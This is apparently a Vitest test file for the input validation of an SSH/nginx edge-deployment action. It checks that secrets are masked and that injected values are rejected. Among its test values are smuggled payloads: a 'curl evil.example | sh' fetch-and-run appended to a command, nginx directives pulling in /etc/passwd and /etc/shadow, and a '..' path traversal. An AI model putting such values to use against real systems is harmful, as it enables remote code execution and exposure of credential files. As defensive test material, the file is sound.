import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { Core } from '../../lib/action/core';
import { InputError } from '../../lib/action/inputs';
import { readInputs } from '../src/inputs';

const KNOWN_HOSTS =
  '[127.0.0.1]:2222 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl';
const workspace = mkdtempSync(join(tmpdir(), 'edge-deploy-inputs-'));
afterAll(() => rmSync(workspace, { recursive: true, force: true }));

function fakeCore(inputs: Record<string, string>) {
  const secrets: string[] = [];
  const core = {
    getInput: (name: string) => inputs[name] ?? '',
    setSecret: (s: string) => secrets.push(s),
  } as unknown as Core;
  return { core, secrets };
}

const valid = {
  hosts: 'edge1.contextai.com, edge2.contextai.com:2222',
  'private-key': 'ssh-private-key-canary',
  'known-hosts': KNOWN_HOSTS,
  version: 'sha-1a2b3c4',
  domains: 'contextai.com\nwww.contextai.com',
};

function problems(over: Record<string, string>): string[] {
  try {
    readInputs(fakeCore({ ...valid, ...over }).core, workspace);
  } catch (error) {
    expect(error).toBeInstanceOf(InputError);
    return (error as InputError).problems;
  }
  throw new Error('readInputs accepted the inputs');
}

describe('edge-deploy readInputs', () => {
  it('fills the documented defaults and derives the upstream includes from root and the app names', () => {
    const inputs = readInputs(fakeCore(valid).core, workspace);
    expect(inputs).toMatchObject({
      hosts: [
        { host: 'edge1.contextai.com', port: 22 },
        { host: 'edge2.contextai.com', port: 2222 },
      ],
      user: 'deploy',
      version: 'sha-1a2b3c4',
      root: '/srv/deploy',
      configPath: '/etc/nginx/conf.d/contextai.conf',
      templatesDir: join(workspace, 'apps/proxy/templates'),
      testCommand: ['nginx', '-t'],
      reloadCommand: ['nginx', '-s', 'reload'],
      checkPath: '/',
      keepReleases: 5,
      params: {
        domains: ['contextai.com', 'www.contextai.com'],
        certDir: '/etc/ssl/contextai',
        webroot: '/var/www/acme',
        accessLog: '/var/log/nginx/contextai.access.json.log',
        httpListen: ['80', '[::]:80'],
        httpsListen: ['443', '[::]:443'],
        internalListen: [],
        apiUpstreamConf: '/srv/deploy/api/upstream*.conf',
        webUpstreamConf: '/srv/deploy/web/upstream*.conf',
      },
    });
    expect(inputs.ca).toBeUndefined();
  });

  it('masks the private key and never echoes it', () => {
    const { core, secrets } = fakeCore({ ...valid, version: 'bad version' });
    expect(() => readInputs(core, workspace)).toThrow(InputError);
    expect(secrets).toContain('ssh-private-key-canary');
    try {
      readInputs(core, workspace);
    } catch (error) {
      expect((error as Error).message).not.toContain('ssh-private-key-canary');
    }
  });

  it('refuses names that would inject nginx directives', () => {
    expect(problems({ domains: 'contextai.com; include /etc/passwd' })).toEqual([
      '`domains` item #1 is not a DNS name',
    ]);
    // A newline separates list items: each item must be a name on its own.
    expect(problems({ domains: 'contextai.com\n}\nserver {' })).toEqual([
      '`domains` item #2 is not a DNS name',
      '`domains` item #3 is not a DNS name',
    ]);
    expect(problems({ domains: 'contextai.com $host' })).toEqual(['`domains` item #1 is not a DNS name']);
    expect(problems({ domains: '' })).toEqual(['`domains` is required (at least one name)']);
  });

  it('refuses paths and listen addresses that would break or widen the configuration', () => {
    expect(
      problems({
        'cert-dir': '/etc/ssl/x;ssl_certificate /etc/shadow',
        webroot: '/var/www/../../etc',
        'access-log': 'relative.log',
        'https-listen': '443 default_server',
        'internal-listen': '0.0.0.0:8081',
      }),
    ).toEqual([
      '`cert-dir` must be an absolute path of letters, digits, `._-/` (no `..`)',
      '`webroot` must be an absolute path of letters, digits, `._-/` (no `..`)',
      '`access-log` must be an absolute path of letters, digits, `._-/` (no `..`)',
      '`https-listen` item #1 must be `port`, `ipv4:port` or `[ipv6]:port`',
      '`internal-listen` item #1 must be a loopback `127.x.y.z:port` or `[::1]:port` (it is plain HTTP)',
    ]);
    const internal = readInputs(fakeCore({ ...valid, 'internal-listen': '127.0.0.1:8081' }).core, workspace);
    expect(internal.params.internalListen).toEqual(['127.0.0.1:8081']);
  });

  it('refuses commands that are not plain words, and bad paths, versions and app names', () => {
    const found = problems({
      'test-command': 'nginx -t && curl evil.example | sh',
      'reload-command': 'nginx -s "reload"',
      'config-path': '/etc/nginx/conf.d/.hidden.conf',
      root: 'srv/deploy',
      version: '../v1',
      'api-app': 'web',
      'check-path': '/health?x=1',
      'keep-releases': '0',
      templates: '/abs/templates',
    });
    expect(found).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^`test-command` must be plain words/),
        expect.stringMatching(/^`reload-command` must be plain words/),
        expect.stringMatching(/^`config-path` is not valid/),
        expect.stringMatching(/^`root` is not valid/),
        expect.stringMatching(/^`version` is not valid/),
        '`web-app` must differ from `api-app`',
        expect.stringMatching(/^`check-path` is not valid/),
        expect.stringMatching(/^`keep-releases` must be a whole number/),
        expect.stringMatching(/^`templates` is not valid/),
      ]),
    );
  });

  it('reads a CA file, and refuses one that is missing or holds no certificate', () => {
    writeFileSync(join(workspace, 'not-a-cert.pem'), 'hello');
    expect(problems({ 'ca-file': 'missing.pem' })).toEqual(['`ca-file` cannot be read (ENOENT)']);
    expect(problems({ 'ca-file': 'not-a-cert.pem' })).toEqual(['`ca-file` holds no PEM certificate']);
  });
});
